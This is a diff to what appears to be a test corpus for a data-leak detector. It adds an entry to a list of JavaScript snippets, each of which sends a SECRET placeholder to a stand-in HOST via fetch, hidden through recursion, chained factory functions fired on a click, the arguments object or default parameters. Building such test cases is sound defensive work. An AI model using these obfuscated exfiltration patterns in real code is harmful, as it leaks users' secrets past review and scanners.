@@ -50,6 +50,10 @@ const CARRIERS: readonly Carrier[] = [
 		"a recursive function",
 		`function walk(list, out) { if (list.length === 0) return out; out.push(list[0]); return walk(list.slice(1), out); } fetch("HOST/" + walk([1, SECRET], []).join());`,
 	],
+	[
+		"one of many functions with the same code, called inside another of them",
+		`const make = (to, next) => (data, deep) => { if (deep > 0) next(data, deep - 1); fetch(to, { method: "POST", body: data }); }; const far = make("HOST", () => 0); const near = make("/a", (data, deep) => far(data, deep)); document.onclick = () => { ${Array.from({ length: 12 }, (_, at) => `near(page.x${at});`).join(" ")} near(SECRET, page.n); };`,
+	],
 	["the arguments object", `function send() { fetch(arguments[0] + arguments[1]); } send("HOST/", SECRET);`],
 	["a default parameter", `const send = (text = SECRET) => fetch("HOST/" + text); send();`],
 	["a default parameter of a function nobody calls", `const send = (text = SECRET) => fetch("HOST/" + text);`],
